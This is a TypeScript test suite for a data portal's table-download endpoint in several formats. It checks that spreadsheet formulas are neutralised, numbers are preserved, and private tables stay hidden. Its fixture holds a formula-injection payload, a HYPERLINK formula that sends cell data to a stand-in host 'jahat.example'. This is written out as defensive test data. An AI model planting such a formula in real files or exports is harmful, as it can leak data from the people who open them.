import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addUser, signIn, systemCtx } from '../../../test/support/accounts.js';
import { openTestServices, type TestServices } from '../../../test/support/services.js';
import { DuckDBInstance } from '../../datastore/duckdb/api.js';
import { addUpload } from '../../ingest/uploads.js';
import { buildApp } from '../app.js';

/** Text cells a spreadsheet would run as formulas, next to real negative numbers. */
const CRAFTED = [
  'kode,catatan,nilai,jumlah',
  'A1,"=HYPERLINK(""http://jahat.example/?d=""&A2,""klik"")","-5,5",-3',
  'A2,+1,"2,25",4',
  'A3,@SUM(A1:A2),"-0,75",-10',
  'A4,"Jawa, ""Barat""",1,0',
  'A5,-2+3,0,7',
].join('\n');

const HEADER = ['kode', 'catatan', 'nilai', 'jumlah'];
const SAFE_TEXT = [
  `'=HYPERLINK("http://jahat.example/?d="&A2,"klik")`,
  `'+1`,
  `'@SUM(A1:A2)`,
  'Jawa, "Barat"',
  `'-2+3`,
];
const NILAI = [-5.5, 2.25, -0.75, 1, 0];
const JUMLAH = [-3, 4, -10, 0, 7];

describe.each(['pglite', 'postgres'] as const)('datastore dump on %s', (engine) => {
  let t: TestServices;
  let app: FastifyInstance;
  const files = mkdtempSync(join(tmpdir(), 'kendali-dump-'));
  let pub = '';
  let secret = '';
  let member = '';

  const importCsv = async (name: string, text: string, packageId: string) => {
    const path = join(files, name);
    writeFileSync(path, text);
    const up = await addUpload(t.services.config.dataDir, path, null);
    const res = (await t.registry.call('datastore_import', systemCtx(t), {
      upload_id: up.id,
      package_id: packageId,
    })) as { resource_id: string };
    return res.resource_id;
  };
  const get = (url: string, headers: Record<string, string> = {}) =>
    app.inject({ method: 'GET', url, headers });

  beforeAll(async () => {
    t = await openTestServices(engine);
    const sys = systemCtx(t);
    await t.registry.call('organization_create', sys, { name: 'bps', title: 'Badan Pusat Statistik' });
    await t.registry.call('package_create', sys, { name: 'uji-unduh', title: 'Uji', owner_org: 'bps' });
    await t.registry.call('package_create', sys, {
      name: 'rahasia-unduh',
      title: 'Rahasia',
      owner_org: 'bps',
      private: true,
    });
    pub = await importCsv('crafted.csv', CRAFTED, 'uji-unduh');
    secret = await importCsv('rahasia.csv', CRAFTED, 'rahasia-unduh');
    const user = await addUser(t, 'anggota');
    await t.registry.call('member_create', sys, {
      id: 'bps',
      object: user.name,
      object_type: 'user',
      capacity: 'member',
    });
    app = await buildApp({ registry: t.registry, services: t.services, logger: false });
    member = (await signIn(app, user.name, user.password)).cookie;
  });
  afterAll(async () => {
    await app?.close();
    await t.cleanup();
    rmSync(files, { recursive: true, force: true });
  });

  it('CSV: UTF-8 with BOM, formulas neutralised, negative numbers as numbers', async () => {
    const res = await get(`/datastore/dump/${pub}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="uji-unduh.csv"');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parse(res.rawPayload, { bom: true }) as string[][];
    expect(rows[0]).toEqual(HEADER);
    expect(rows.slice(1).map((r) => r[1])).toEqual(SAFE_TEXT);
    expect(rows.slice(1).map((r) => Number(r[2]))).toEqual(NILAI);
    expect(rows.slice(1).map((r) => r[3])).toEqual(JUMLAH.map(String));
    expect(res.body).toContain('\r\nA1,');
  });

  it('TSV: tab-separated, neutralised, numbers kept', async () => {
    const res = await get(`/datastore/dump/${pub}?format=tsv&version=1`);
    expect(res.headers['content-type']).toBe('text/tab-separated-values; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="uji-unduh-v1.tsv"');
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split('\r\n');
    expect(lines[0]).toBe(HEADER.join('\t'));
    expect(lines.slice(1).map((l) => l.split('\t')[1])).toEqual(SAFE_TEXT);
    expect(lines[1]?.split('\t').slice(2)).toEqual(['-5.5', '-3']);
  });

  it('JSON: fields and records, values as stored', async () => {
    const res = await get(`/datastore/dump/${pub}?format=json`);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    const body = res.json() as { fields: { id: string; type: string }[]; records: Record<string, unknown>[] };
    expect(body.fields.map((f) => f.id)).toEqual(HEADER);
    expect(body.records.map((r) => r.nilai)).toEqual(NILAI);
    expect(body.records[0]?.catatan).toBe(`=HYPERLINK("http://jahat.example/?d="&A2,"klik")`);
    const lists = (await get(`/datastore/dump/${pub}?format=json&records_format=lists`)).json();
    expect(lists.records[2]).toEqual(['A3', '@SUM(A1:A2)', -0.75, -10]);
  });

  it('XLSX: numbers as numbers, formulas as quoted text', async () => {
    const res = await get(`/datastore/dump/${pub}?format=xlsx`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toBe('attachment; filename="uji-unduh.xlsx"');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.getWorksheet('data');
    if (!sheet) throw new Error('no sheet "data"');
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(HEADER);
    expect([2, 3, 4, 5, 6].map((n) => values(n)[1])).toEqual(SAFE_TEXT);
    expect([2, 3, 4, 5, 6].map((n) => values(n)[2])).toEqual(NILAI);
    expect([2, 3, 4, 5, 6].map((n) => values(n)[3])).toEqual(JUMLAH);
    expect(sheet.getRow(2).getCell(3).type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.getRow(2).getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(sheet.rowCount).toBe(6);
  });

  it('Parquet: the version file itself, readable by DuckDB', async () => {
    const res = await get(`/datastore/dump/${pub}?format=parquet`);
    expect(res.headers['content-type']).toBe('application/vnd.apache.parquet');
    expect(Number(res.headers['content-length'])).toBe(res.rawPayload.length);
    const path = join(files, 'back.parquet');
    writeFileSync(path, res.rawPayload);
    const db = await DuckDBInstance.create(':memory:');
    const c = await db.connect();
    try {
      const reader = await c.runAndReadAll(`SELECT * FROM read_parquet('${path}')`);
      const rows = reader.getRowObjectsJS();
      expect(rows.map((r) => r.catatan)).toEqual(SAFE_TEXT.map((s) => s.replace(/^'(?=[=+@-])/, '')));
      expect(rows.map((r) => r.nilai)).toEqual(NILAI);
    } finally {
      c.closeSync();
      db.closeSync();
    }
  });

  it('a private table is 404 for the public, exactly like an unknown one, and fine for a member', async () => {
    const hidden = await get(`/datastore/dump/${secret}`);
    const unknown = await get('/datastore/dump/00000000-0000-0000-0000-000000000000');
    expect(hidden.statusCode).toBe(404);
    expect(unknown.statusCode).toBe(404);
    const message = (res: typeof hidden, id: string) => res.json().error.message.replace(id, '<id>');
    expect(message(hidden, secret)).toBe(message(unknown, '00000000-0000-0000-0000-000000000000'));
    expect(hidden.json()).toMatchObject({ success: false, error: { __type: 'Not Found Error' } });
    const mine = await get(`/datastore/dump/${secret}?format=json`, { cookie: member });
    expect(mine.statusCode).toBe(200);
    expect(mine.json().records).toHaveLength(5);
  });

  it('refuses an unknown format or version', async () => {
    const bad = await get(`/datastore/dump/${pub}?format=xls`);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.message).toMatch(/csv, tsv, json, xlsx, parquet/);
    expect((await get(`/datastore/dump/${pub}?version=9`)).statusCode).toBe(404);
    expect((await get(`/datastore/dump/${pub}?version=x`)).statusCode).toBe(400);
  });
});
